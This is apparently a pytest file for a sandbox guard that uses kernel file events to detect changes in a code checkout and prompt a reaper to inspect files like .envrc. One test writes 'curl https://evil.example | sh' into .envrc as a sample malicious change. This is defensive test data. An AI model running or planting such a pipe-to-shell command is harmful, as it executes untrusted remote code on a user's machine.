"""The kernel's file events of the checkout: what changed is known without walking it, and what
the events cannot vouch for is said."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from opencode_sandbox.core.stop_mode import StopMode
from opencode_sandbox.runtime.kind import RuntimeKind
from opencode_sandbox.services.guard import events as checkout_events
from opencode_sandbox.services.guard import moves as guard_moves
from opencode_sandbox.services.guard.events import CheckoutEvents, Events
from opencode_sandbox.services.guard.live_watch import LiveWatch
from opencode_sandbox.services.guard.store import GuardRecord, GuardStore
from opencode_sandbox.services.reaper_settings import ReaperSettings


def taken_soon(events: CheckoutEvents) -> Events:
    """What the events reported within about a second."""
    for _ in range(50):
        taken = events.take()
        if taken is not None:
            return taken
        time.sleep(0.01)
    return Events()


def test_a_change_anywhere_below_is_named(tmp_path: Path) -> None:
    (tmp_path / "a" / "b").mkdir(parents=True)
    events = CheckoutEvents([tmp_path])
    try:
        assert events.complete and events.watched == 3
        assert events.take() is None, "nothing changed"
        (tmp_path / "a" / "b" / ".envrc").write_text("x")
        assert str(tmp_path / "a" / "b" / ".envrc") in taken_soon(events).paths
        os.chmod(tmp_path / "a" / "b" / ".envrc", 0o4755)
        assert str(tmp_path / "a" / "b" / ".envrc") in taken_soon(events).paths, "a mode change is a change"
    finally:
        events.close()


def test_a_folder_made_and_filled_at_once_counts_whole_and_is_watched_from_then_on(tmp_path: Path) -> None:
    events = CheckoutEvents([tmp_path])
    try:
        (tmp_path / "new" / "deeper").mkdir(parents=True)
        (tmp_path / "new" / "deeper" / "HEAD").write_text("ref: refs/heads/main\n")
        assert str(tmp_path / "new") in taken_soon(events).paths
        (tmp_path / "new" / "deeper" / "config").write_text("[core]\n")
        assert str(tmp_path / "new" / "deeper" / "config") in taken_soon(events).paths
    finally:
        events.close()


def test_a_link_is_never_followed_and_the_checkouts_own_git_directory_is_left_out(tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "checkout" / ".git" / "objects").mkdir(parents=True)
    (tmp_path / "checkout" / "link").symlink_to(tmp_path / "outside")
    events = CheckoutEvents([tmp_path / "checkout"], skip=[tmp_path / "checkout" / ".git"])
    try:
        assert events.watched == 1
        (tmp_path / "outside" / "x").write_text("x")
        assert events.take() is None or not taken_soon(events).paths
    finally:
        events.close()


def test_past_the_watch_limit_the_events_say_they_are_incomplete(tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checkout_events, "WATCH_LIMIT", 3)
    for index in range(5):
        (tmp_path / f"f{index}").mkdir()
    events = CheckoutEvents([tmp_path])
    try:
        assert not events.complete and "more than 3 folders" in events.why_incomplete
    finally:
        events.close()


def test_past_the_pending_limit_everything_counts_and_the_memory_stays_bounded(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(checkout_events, "PENDING_LIMIT", 100)
    events = CheckoutEvents([tmp_path])
    try:
        for index in range(500):
            (tmp_path / f"f{index}").write_text("x")
        taken = taken_soon(events)
        assert taken.everything and len(taken.paths) <= 100
    finally:
        events.close()


def test_an_overflowed_queue_makes_everything_count(tmp_path: Path) -> None:
    limit = int(Path("/proc/sys/fs/inotify/max_queued_events").read_text())
    if limit > 100_000:
        pytest.skip(f"this kernel queues {limit} events")
    events = CheckoutEvents([tmp_path])
    try:
        for index in range(limit + 100):
            os.close(os.open(tmp_path / f"f{index}", os.O_CREAT | os.O_WRONLY, 0o644))
        assert taken_soon(events).everything
    finally:
        events.close()


def _settings(state: Path, root: Path) -> ReaperSettings:
    return ReaperSettings("slug", "vm", RuntimeKind.DOCKER, "http://127.0.0.1:1", 10.0,
                          StopMode.WAIT_FOR_QUIESCENCE, 10, state)


def test_the_reaper_looks_when_something_changed_and_not_otherwise(tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    checkout, state = tmp_path / "checkout", tmp_path / "state"
    (checkout / "sub").mkdir(parents=True)
    settings = _settings(state, checkout)
    GuardStore(settings.project().folder).save(GuardRecord(str(checkout), (".envrc",), {}, vm_may_write=True), {})
    looks: list[str] = []
    named: list[str] = []
    monkeypatch.setattr(guard_moves, "catch_while_running", lambda *_: looks.append("everything"))
    monkeypatch.setattr(guard_moves, "catch_named", lambda _root, _slug, paths, _log: (named.extend(paths) or
                        guard_moves.Notes(), False))
    watch = LiveWatch(lambda kind: None, lambda line: None)  # type: ignore[arg-type,return-value]
    try:
        watch(settings)  # the first look, with the events set up before it
        assert len(looks) == 1
        for _ in range(20):
            assert not watch.due(), "nothing changed: no look, however often asked"
            time.sleep(0.01)
        (checkout / "sub" / ".envrc").write_text("curl https://evil.example | sh\n")
        changed_at = time.monotonic()
        while not watch.due():
            assert time.monotonic() - changed_at < 1.0, "a change calls for a look within a second"
            time.sleep(0.01)
        watch(settings)
        assert looks == ["everything"] and named == [str(checkout / "sub" / ".envrc")], \
            "a file the events named is looked at alone"
        (checkout / "sub" / "new").mkdir()
        while not watch.due():
            time.sleep(0.01)
        watch(settings)
        assert looks == ["everything", "everything"], "a new folder calls for a look at everything"
    finally:
        watch.close()


def test_a_start_asks_the_reaper_and_the_answer_vouches_only_for_the_record_it_looked_at(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from opencode_sandbox.services.reaper_looks import LookServer, ask_to_look, record_stamp, socket_name

    checkout, state = tmp_path / "checkout", tmp_path / "state"
    checkout.mkdir()
    settings = _settings(state, checkout)
    store = GuardStore(settings.project().folder)
    store.save(GuardRecord(str(checkout), (".envrc",), {}, vm_may_write=True), {})
    looks: list[float] = []
    monkeypatch.setattr(guard_moves, "catch_while_running", lambda *_: looks.append(time.monotonic()))
    monkeypatch.setattr(guard_moves, "catch_named",
                        lambda *_: (looks.append(time.monotonic()) or guard_moves.Notes(), False))
    watch = LiveWatch(lambda kind: None, lambda line: None)  # type: ignore[arg-type,return-value]
    server = LookServer(socket_name(state, "slug"), watch.look_now).start()
    try:
        assert ask_to_look(state, "slug") == "blind the watch has not looked yet"
        watch(settings)
        assert ask_to_look(state, "slug") == f"clean {record_stamp(store.record_path)}"
        assert len(looks) == 1, "nothing changed since the last look: the answer costs no look"
        (checkout / ".envrc").write_text("id\n")
        assert ask_to_look(state, "slug") == f"clean {record_stamp(store.record_path)}"
        assert len(looks) == 2, "a change reported by the events is looked at before the answer"
        store.save(GuardRecord(str(checkout), (".envrc", ".husky"), {}, vm_may_write=True), {})
        assert ask_to_look(state, "slug") == f"clean {record_stamp(store.record_path)}"
        assert len(looks) == 3, "a new record is compared with before the answer"
        assert ask_to_look(state, "other-slug") is None, "no reaper of that project"
    finally:
        server.close()
        watch.close()
